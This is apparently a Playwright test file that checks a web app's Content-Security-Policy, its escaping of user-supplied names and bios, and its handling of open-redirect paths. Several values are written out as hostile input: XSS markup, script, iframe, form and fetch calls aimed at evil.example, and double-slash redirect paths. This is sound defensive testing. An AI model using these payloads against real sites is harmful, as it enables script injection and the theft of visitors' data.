import type { Page } from '@playwright/test'
import { createCollection, shareCollection } from '../../contract/collections.ts'
import { updateProfile } from '../../contract/profiles.ts'
import { sharePath } from '../../contract/sharing.ts'
import { expect, signIn, startSession, test } from './fixtures.ts'
import { makeListener } from './listeners.ts'

test.describe('what the Content-Security-Policy forbids', () => {
  test.use({
    violatesPolicy: true,
    expectedErrors: [/Content Security Policy|Refused to|violates|ERR_BLOCKED_BY_CSP/],
  })

  test('people-22: foreign scripts, frames, connections, forms and bases are blocked, and every attempt is detected', async ({
    page,
    violations,
  }) => {
    await page.goto('/')
    expect(await page.evaluate(tryAttacks)).toEqual([])
    await expect
      .poll(() => [...new Set(violations.map((text) => text.split(' ')[0]))].sort())
      .toEqual([
        'base-uri',
        'connect-src',
        'font-src',
        'form-action',
        'frame-src',
        'media-src',
        'object-src',
        'script-src-attr',
        'script-src-elem',
        'worker-src',
      ])
  })
})

test('people-22: names, bio and collections are shown as text everywhere, and never run', async ({
  page,
}) => {
  const markup = '<img src=x onerror="document.title=1">'
  const bio = '<script>document.title = 1</script><marquee>loud</marquee>'
  const listener = await makeListener({ firstName: markup, bio, isPublic: true })
  const email = await startSession(page.context())
  await page.request.put(updateProfile.path, { data: { firstName: markup, bio, isPublic: true } })
  const response = await listener.api.post(createCollection.path, {
    data: { name: markup, description: bio },
  })
  const { id } = (await response.json()) as { id: string }
  const shared = await listener.api.post(shareCollection.path.replace(':id', id))
  const { shareToken } = (await shared.json()) as { shareToken: string }

  await signIn(page, { email, path: '/profile' })
  await expectText(page, markup)
  await page.goto(sharePath('collection', shareToken))
  await expectText(page, markup)
  await expectText(page, bio)
})

test('@long the API document follows the policy too', async ({ page }) => {
  await page.goto('/docs')
  await expect(page.getByText('Mails a sign-in link and a code').first()).toBeVisible()
})

test('@long a path that starts with two slashes does not redirect elsewhere', async ({
  request,
  baseURL,
}) => {
  for (const path of ['//evil.example', '//evil.example/%2f..', '/%5cevil.example', '///evil.example/']) {
    const answer = await request.get(`${baseURL}${path}`, { maxRedirects: 0 })
    expect([path, answer.headers().location]).toEqual([path, undefined])
  }
})

async function expectText(page: Page, text: string): Promise<void> {
  await expect(page.getByText(text).first()).toBeVisible()
  await expectNothingRan(page)
}

async function expectNothingRan(page: Page): Promise<void> {
  await expect(page.locator('#root img[src="x"], #root script, #root marquee')).toHaveCount(0)
  await expect(page).not.toHaveTitle('1')
}

/** Runs in the page: tries what an attacker with script access would. Returns what worked. */
async function tryAttacks(): Promise<string[]> {
  const worked: string[] = []
  Object.assign(window, { tell: (what: string) => worked.push(what) })
  const add = (name: string, attributes: Record<string, string>, text = '') => {
    const element = document.createElement(name)
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
    element.textContent = text
    document.body.append(element)
    return element
  }
  add('script', {}, "tell('inline script')")
  add('script', { src: 'https://evil.example/x.js' })
  add('button', { onclick: "tell('inline handler')" }).click()
  add('iframe', { src: 'https://evil.example/' })
  add('object', { data: 'https://evil.example/x.swf' })
  add('base', { href: 'https://evil.example/' })
  add('audio', { src: 'https://evil.example/x.mp3' })
  const form = add('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement
  form.submit()
  await fetch('https://evil.example/').then(
    () => worked.push('fetch'),
    () => {},
  )
  try {
    new Worker('data:text/javascript,1')
  } catch {}
  await new FontFace('Evil', "url('https://evil.example/x.woff2')").load().then(
    () => worked.push('font'),
    () => {},
  )
  return worked
}
